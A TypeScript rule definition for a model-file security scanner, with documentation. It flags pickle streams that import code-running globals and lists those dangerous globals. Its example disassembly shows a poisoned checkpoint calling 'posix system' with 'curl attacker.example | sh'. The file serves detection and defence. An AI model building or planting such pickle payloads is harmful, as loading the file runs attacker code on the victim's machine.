import { defineRule } from '../../engine/rule';
import { MODEL_FILE } from './references';

/** Reported by the model-file scanner (model-files/), not by a visitor: the finding is on the artifact, not on a line of code. */
export default defineRule({
  meta: {
    code: 'MLS150',
    name: 'pickle-imports-dangerous-global',
    title: 'A model file\'s pickle imports a global that runs code on load',
    category: 'unsafe-deserialization',
    severity: 'error',
    confidence: 'high',
    fix: 'none',
    references: MODEL_FILE,
    sources: ['picklescan:dangerous-globals', 'modelscan:PickleUnsafeOpScan', 'modelscan:PyTorchUnsafeOpScan', 'modelscan:NumpyUnsafeOpScan', 'fickling:UnsafeImports'],
    input: 'model-file',
  },
  docs: `
## What it does
Reads the pickle streams in a model file of the workspace (a raw \`.pkl\`, the \`data.pkl\` of a PyTorch zip checkpoint, a legacy PyTorch \`.pt\`, a joblib file, compressed or not, the object array of a \`.npy\` / \`.npz\`) without loading them, and reports each global the stream imports that can run commands or code, open files or sockets, load another pickle, or reach any attribute: \`os.system\` (\`posix\` / \`nt\`), \`subprocess.*\`, \`builtins.eval\` / \`exec\` / \`compile\` / \`__import__\` / \`getattr\` / \`open\`, \`runpy\`, \`socket\`, \`webbrowser\`, \`shutil\`, \`pty\`, \`requests\`, \`urllib\`, \`pip\`, \`importlib\`, \`pickle.loads\`, \`ctypes\`, \`sys\`, \`operator.attrgetter\`, \`torch.hub\`; helpers that run a command they are given (\`uuid._get_command_stdout\`, \`_osx_support._read_output\`, \`torch.utils.collect_env.run\`), loaders of other files under the modules that define them (\`joblib.numpy_pickle.load\`, \`pandas.io.pickle.read_pickle\`, \`yaml.unsafe_load\`, \`jsonpickle.decode\`), archive and compressed-file openers that truncate the file they open for writing (\`zipfile.ZipFile\`, \`gzip.open\`), and more. The message names the global (\`module.name\`), the member of the archive and the byte offset of the opcode that imports it.

## Why is this bad?
Unpickling imports every global the stream names and calls whatever it reduces: a model file that names \`os.system\` runs a command the moment it is loaded with \`torch.load(weights_only=False)\`, \`pickle.load\`, \`joblib.load\` or \`numpy.load(allow_pickle=True)\`. Such files are how poisoned models are spread on model hubs and shared drives.

## Example
A checkpoint whose \`archive/data.pkl\` holds:
\`\`\`text
    0: \\x80 PROTO      2
    2: c    GLOBAL     'posix system'
   16: q    BINPUT     0
   18: X    BINUNICODE 'curl attacker.example | sh'
   ...  R    REDUCE
\`\`\`

## Use instead
Do not load the file. Get the weights in a format that holds only data (\`.safetensors\`, ONNX, \`skops\` for scikit-learn), from a source you trust, pinned to a revision and checked against a known hash.

## Fix safety
No fix: the file must be replaced. Remove it from the repository, and from its history if it was pushed.

## Known limitations
The scanner reads what the stream imports; it does not run it. A pickle that reaches a dangerous function only through an object of an unlisted class is reported as "cannot verify" (MLS151), not here. Globals named through the copyreg extension registry (EXT1/2/4) cannot be named and are reported by MLS151. A file has no comment line to hold a suppression: ignore the code for the file with \`per-file-ignores\` in the configuration.

## References
- [Python: pickle, restricting globals](https://docs.python.org/3/library/pickle.html#restricting-globals)
- [PyTorch: torch.load and weights_only](https://pytorch.org/docs/stable/generated/torch.load.html)
- [Hugging Face: pickle scanning](https://huggingface.co/docs/hub/security-pickle)
`,
  create: () => ({}),
});
